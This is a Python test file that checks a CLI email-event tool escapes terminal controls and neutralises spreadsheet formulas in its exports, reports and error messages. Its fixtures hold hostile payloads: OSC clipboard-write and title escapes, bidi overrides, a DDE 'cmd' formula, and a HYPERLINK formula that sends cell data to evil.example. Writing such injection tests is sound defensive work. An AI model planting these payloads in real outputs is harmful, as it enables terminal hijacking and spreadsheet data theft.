"""Issue 11 item 6: no terminal control from the data reaches any text output of the CLI — CSV,
JSON Lines, tables, reports, error messages — whether stdout is a terminal or a file; CSV cells a
spreadsheet would run as formulas are neutralised; JSON keeps the data exactly (\\u escapes)."""

from __future__ import annotations

import csv
import io
import json
import logging
import re
import subprocess
import sys

import pytest
from fixtures import record, sns_envelope

from sestui.cli import main
from sestui.cli.collect import SafeFormatter
from sestui.core.safe_text import FORMULA_STARTS, json_line, safe_cell, safe_line

pytestmark = pytest.mark.usefixtures("isolated_environment")

OSC_TITLE = "\x1b]0;pwned\x07"
OSC_PASTE = "\x1b]52;c;ZWNobyBwd25lZA==\x07"
CSI = "\x1b[2J\x1b[31m"
C1_CSI = "\x9b31m"
BIDI = "\u202eevil\u202c \u2066iso\u2069 \u2067r\u2068"
BYTES = "bel\x07 bs\x08 nul\x00 esc\x1b del\x7f cr\r"
HOSTILE = f"{OSC_TITLE}{OSC_PASTE}{CSI}{C1_CSI}{BIDI}{BYTES}"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'

# Any C0 control but tab and newline, DEL, C1, and the bidi controls.
LEAK = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def leaks(text: str, *, csv_lines: bool = False) -> list[str]:
    """The control characters in `text` (a CSV writer's CRLF line ends aside)."""
    if csv_lines:
        text = text.replace("\r\n", "\n")
    return LEAK.findall(text)


def hostile_records() -> list[dict]:
    bounce = record("event-bounce")
    bounce["bounce"]["bounceSubType"] = HOSTILE
    bounce["bounce"]["bouncedRecipients"][0]["diagnosticCode"] = FORMULA + HOSTILE
    bounce["bounce"]["bouncedRecipients"][0]["emailAddress"] = f"{HOSTILE}gone@example.net"
    bounce["mail"]["destination"][0] = f"{HOSTILE}gone@example.net"
    bounce["mail"]["commonHeaders"]["subject"] = "@SUM(1+1)" + HOSTILE
    bounce["mail"]["source"] = f"-2+3 {HOSTILE} <news@shop.example.com>"
    bounce["mail"]["tags"]["ses:configuration-set"] = ["+cmd|' /C calc'!A0" + HOSTILE]
    click = record("event-click")
    click["click"]["link"] = "\thttps://x.example/" + HOSTILE
    click["click"]["userAgent"] = "\rMozilla" + HOSTILE
    click["click"]["ipAddress"] = HOSTILE
    reject = record("event-reject")
    reject["reject"]["reason"] = "=1+1" + HOSTILE
    return [bounce, click, reject]


@pytest.fixture
def hostile_db(tmp_path, capsys):
    path = tmp_path / "hostile.jsonl"
    path.write_text("".join(json.dumps(json.loads(sns_envelope(r))) + "\n" for r in hostile_records()))
    db = tmp_path / "events.db"
    assert main(["ingest", "--db", str(db), str(path)]) == 0
    assert capsys.readouterr().out.splitlines()[-1] == "stored=3 duplicates=0 quarantined=0"
    return db


def test_jsonl_export_holds_no_control_and_decodes_to_the_data(hostile_db, capsys):
    assert main(["export", "--db", str(hostile_db)]) == 0
    out = capsys.readouterr().out
    assert leaks(out) == []
    rows = [json.loads(line) for line in out.splitlines()]
    bounce = next(r for r in rows if r["event_type"] == "bounce")
    assert bounce["bounce_subtype"] == HOSTILE  # nothing lost: JSON's \u escapes decode to the data
    assert bounce["diagnostic_code"] == FORMULA + HOSTILE
    assert "\\u009b31m" in out and "\\u202eevil" in out and "\\u001b]52;c;" in out


def test_csv_export_escapes_controls_and_neutralises_formulas(hostile_db, capsys):
    assert main(["export", "--db", str(hostile_db), "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert leaks(out, csv_lines=True) == []
    rows = list(csv.DictReader(io.StringIO(out)))
    cells = [cell for row in rows for cell in row.values() if cell]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    bounce = next(r for r in rows if r["event_type"] == "bounce")
    assert bounce["diagnostic_code"].startswith("'=HYPERLINK(")
    assert bounce["subject"].startswith("'@SUM(1+1)\\x1b]0;pwned\\x07")
    assert bounce["source"].startswith("'-2+3 ")
    click = next(r for r in rows if r["event_type"] == "click")
    assert click["link"].startswith("'\thttps://x.example/")  # a tab is quoted by CSV, not escaped
    assert click["user_agent"].startswith("'\\x0dMozilla")
    assert next(r for r in rows if r["event_type"] == "reject")["reject_reason"].startswith("'=1+1")


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_export_to_a_file_is_as_clean_as_to_a_terminal(hostile_db, tmp_path, fmt):
    target = tmp_path / f"out.{fmt}"
    with open(target, "wb") as f:
        proc = subprocess.run([sys.executable, "-m", "sestui.cli", "export", "--db", str(hostile_db),
                               "--format", fmt], stdout=f, stderr=subprocess.PIPE, check=False)
    assert (proc.returncode, proc.stderr) == (0, b"")
    text = target.read_bytes().decode("utf-8")
    assert leaks(text, csv_lines=fmt == "csv") == []
    rows = list(csv.DictReader(io.StringIO(text))) if fmt == "csv" else [json.loads(x) for x in text.splitlines()]
    assert len(rows) == 3


HOSTILE_ADDRESS = "=1+2\x1b\x07\x08\x00\x9b\u202e\u2066x@evil.example"


def test_suppress_list_and_export_escape_the_addresses(sandbox, aws, capsys, tmp_path):
    """sestui refuses to add such an address (SES would), but another client's entry is listed,
    exported and removed as data."""
    where = ["--endpoint-url", sandbox.info.endpoint_url, "--region", sandbox.info.region,
             "--db", str(tmp_path / "s.db")]
    assert main(["suppress", "add", HOSTILE_ADDRESS, *where]) == 2
    refused = capsys.readouterr()
    assert leaks(refused.out + refused.err) == [] and "no control characters: '=1+2\\x1b\\x07" in refused.err
    aws.sesv2.put_suppressed_destination(EmailAddress=HOSTILE_ADDRESS, Reason="BOUNCE")
    try:
        assert main(["suppress", "list", *where]) == 0
        listed = capsys.readouterr()
        assert leaks(listed.out + listed.err, csv_lines=False) == []
        line = next(line for line in listed.out.splitlines() if "evil.example" in line)
        assert line.split("\t")[:2] == ["=1+2\\x1b\\x07\\x08\\x00\\x9b\\u202e\\u2066x@evil.example", "BOUNCE"]
        assert main(["suppress", "export", *where]) == 0
        exported = capsys.readouterr()
        assert leaks(exported.out, csv_lines=True) == []
        (row,) = [r for r in csv.DictReader(io.StringIO(exported.out)) if "evil.example" in r["email"]]
        assert row["email"].startswith("'=1+2\\x1b")
    finally:
        assert main(["suppress", "remove", HOSTILE_ADDRESS, *where]) == 0
    removed = capsys.readouterr()
    assert leaks(removed.out + removed.err) == []
    assert main(["suppress", "remove", HOSTILE_ADDRESS, *where]) == 1  # gone: "was not on the list"
    missing = capsys.readouterr()
    assert "was not on the list" in missing.err and leaks(missing.out + missing.err) == []


def test_the_doctor_report_escapes_what_it_quotes(sandbox, capsys, tmp_path):
    identity = f"{OSC_TITLE}{C1_CSI}\u202eshop.example.com"
    status = main(["doctor", "--no-send", "--queue-url", sandbox.info.queue_url, "--identity", identity,
                   "--configuration-set", f"set{CSI}", "--endpoint-url", sandbox.info.endpoint_url,
                   "--region", sandbox.info.region, "--db", str(tmp_path / "d.db")])
    out, err = capsys.readouterr()
    assert status in (0, 1)
    assert leaks(out + err) == []
    assert "\\x1b]0;pwned\\x07" in out  # shown, escaped, not dropped


@pytest.mark.parametrize("argv, fragment", [
    (["--account", HOSTILE], "no account"),
    (["ingest", f"/nonexistent/{HOSTILE}.jsonl"], "no such file"),
    (["export", "--since", HOSTILE], ""),
    (["send", "--from", "a@example.com", "--to", "b@example.com", "--tag", OSC_TITLE + CSI + BIDI,
      "--endpoint-url", "http://127.0.0.1:9", "--region", "us-east-1"], "NAME=VALUE"),
    (["setup", "--identity", HOSTILE], "--identity"),
    (["prune", "--older-than", HOSTILE], ""),
])
def test_error_messages_escape_the_data_they_quote(argv, fragment, capsys, tmp_path):
    status = main([*argv, "--db", str(tmp_path / "e.db")] if argv[0] != "--account" else argv)
    out, err = capsys.readouterr()
    assert status != 0
    assert leaks(out + err) == []
    lines = err.splitlines()
    assert len(lines) == 1 and lines[0].startswith("sestui: error: ") and fragment in lines[0]


def test_config_output_and_its_errors_escape_the_file(tmp_path, monkeypatch, capsys):
    path = tmp_path / f"conf{OSC_TITLE}.toml"
    path.write_text(f'theme = "{json.dumps(HOSTILE)[1:-1]}"\n[policies]\ncomplaint = "on"\n')
    monkeypatch.setenv("SESTUI_CONFIG", str(path))
    assert main(["config"]) == 0
    out, err = capsys.readouterr()
    assert leaks(out + err) == [] and "conf\\x1b]0;pwned\\x07.toml" in out
    path.write_text(f'"{json.dumps(HOSTILE)[1:-1]}" = 1\n')
    assert main(["config"]) == 2
    out, err = capsys.readouterr()
    assert leaks(out + err) == [] and len(err.splitlines()) == 1


def test_collector_log_lines_escape_the_message():
    formatter = SafeFormatter("%(levelname)s %(message)s")
    line = formatter.format(logging.LogRecord("sestui", logging.WARNING, __file__, 1, "queue %s: %s",
                                              ("q" + HOSTILE, "line\nforged"), None))
    assert leaks(line) == [] and "\n" not in line and line.startswith("WARNING queue q\\x1b]0;pwned")


# --- the sanitiser itself -----------------------------------------------------------------------


def test_safe_line_escapes_every_control_and_keeps_the_rest():
    shown = safe_line("a\tb\nc\x1b[0m\x9b\u202e café 日本 📧")
    assert shown == "a\\x09b\\x0ac\\x1b[0m\\x9b\\u202e café 日本 📧"


@pytest.mark.parametrize("cell, shown", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\\x0dx"),
    ("\uff1dcmd", "'\uff1dcmd"), ("a=b", "a=b"), ("line\none", "line\none"), ("", ""), (None, ""),
])
def test_safe_cell(cell, shown):
    assert safe_cell(cell) == shown


def test_json_line_round_trips_and_is_inert():
    value = {"s": HOSTILE + "\u2028\u2029 ok é"}
    line = json_line(value)
    assert json.loads(line) == value and leaks(line) == [] and "\u2028" not in line and "é" in line


def test_the_console_start_screen_escapes_the_profile_it_names(tmp_path):
    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "AWS_EC2_METADATA_DISABLED": "true",
           "AWS_CONFIG_FILE": str(tmp_path / "aws-config"), "AWS_SHARED_CREDENTIALS_FILE": str(tmp_path / "creds"),
           "SESTUI_CONFIG": str(tmp_path / "sestui.toml")}
    proc = subprocess.run([sys.executable, "-m", "sestui.cli", "--db", str(tmp_path / "e.db"), "--profile",
                           OSC_TITLE + C1_CSI + BIDI], capture_output=True, text=True, env=env, timeout=60,
                          check=False)
    assert proc.returncode == 1 and "could not use your AWS credentials" in proc.stderr
    assert leaks(proc.stderr) == [] and len(proc.stderr.splitlines()) > 5  # the screen keeps its lines
